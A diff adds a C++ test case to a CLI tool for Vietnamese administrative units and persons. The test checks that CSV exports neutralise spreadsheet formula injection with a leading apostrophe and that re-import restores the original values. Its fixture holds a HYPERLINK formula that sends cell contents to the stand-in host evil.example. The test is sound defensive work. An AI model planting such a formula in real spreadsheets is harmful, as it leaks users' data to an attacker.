@@ -532,6 +532,69 @@ TEST_F(AnttctlTest, ExportThenImportUpdatesEveryRowAndCreatesNone) {
   EXPECT_EQ(summary.value("updated", -1), 3) << json;
 }
 
+TEST_F(AnttctlTest, ExportsGuardFormulaCellsAndImportTakesTheGuardOff) {
+  const std::string hyperlink =
+      "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")";
+  const std::string csv = Path("units.csv");
+  WriteFile(csv,
+            "external_id,name,kind,province_code,managing_body,address,"
+            "headcount,models\n"
+            "-A7,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Bấm vào "
+            "đây\"\")\",agency,44,@Sở Nội vụ,+84 233 3852 123,12,"
+            "=1+1;Tổ tự quản\n");
+  const Outcome created = Run({"units", "import", csv});
+  ASSERT_EQ(created.exit_code, 0) << created;
+
+  const std::string exported = Path("export.csv");
+  const Outcome out = Run({"units", "export", "--file", exported});
+  ASSERT_EQ(out.exit_code, 0) << out;
+  const std::vector<std::string> lines = Lines(ReadFile(exported));
+  ASSERT_EQ(lines.size(), 2u) << ReadFile(exported);
+  // Text cells get a ' before a formula character; numbers, enums, booleans
+  // do not.
+  EXPECT_EQ(lines[1],
+            "U0000000001,'-A7,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,"
+            "\"\"Bấm vào đây\"\")\",agency,,,false,,44,,,,,province,,"
+            "'@Sở Nội vụ,'+84 233 3852 123,12,false,0,'=1+1;Tổ tự quản,active,"
+            "true,");
+  const Outcome list = Run({"-o", "csv", "units", "list"});
+  ASSERT_EQ(list.exit_code, 0) << list;
+  EXPECT_TRUE(absl::StrContains(
+      list.out, "U0000000001,\"'=HYPERLINK(\"\"http://evil.example/"))
+      << list;
+
+  // Imported back, the export changes nothing: every cell reads as it was.
+  const Outcome again = Run({"units", "import", exported});
+  EXPECT_EQ(again.exit_code, 0) << again;
+  EXPECT_TRUE(absl::StrContains(again.out, "created 0, updated 1, rejected 0"))
+      << again;
+  const Outcome got = Run({"-o", "json", "units", "get", "U0000000001"});
+  ASSERT_EQ(got.exit_code, 0) << got;
+  const nlohmann::json unit = nlohmann::json::parse(got.out);
+  EXPECT_EQ(unit.value("name", ""), hyperlink);
+  EXPECT_EQ(unit.value("external_id", ""), "-A7");
+  EXPECT_EQ(unit.value("managing_body", ""), "@Sở Nội vụ");
+  EXPECT_EQ(unit.value("address", ""), "+84 233 3852 123");
+  EXPECT_EQ(unit.at("models"), nlohmann::json::array({"=1+1", "Tổ tự quản"}));
+
+  // Persons too: the export and -o csv of the list.
+  const Outcome person =
+      Run({"persons", "create", "--name", "=1+2", "--gender", "male",
+           "--birth-year", "1970", "--unit", "U0000000001", "--since",
+           "2010-01-01", "--title", "@Tổ trưởng"});
+  ASSERT_EQ(person.exit_code, 0) << person;
+  const Outcome persons = Run({"persons", "export"});
+  ASSERT_EQ(persons.exit_code, 0) << persons;
+  EXPECT_TRUE(absl::StrContains(
+      persons.out,
+      ",'=1+2,male,1970,U0000000001,active,false,leader|@Tổ trưởng|"))
+      << persons;
+  const Outcome persons_csv = Run({"-o", "csv", "persons", "list"});
+  ASSERT_EQ(persons_csv.exit_code, 0) << persons_csv;
+  EXPECT_TRUE(absl::StrContains(persons_csv.out, ",'=1+2,male,1970,"))
+      << persons_csv;
+}
+
 TEST_F(AnttctlTest, PersonsImportTwiceCreatesEachPersonOnce) {
   const std::string unit = CreateAgency("Sở Tư pháp", "A1");
   const std::string csv = Path("persons.csv");
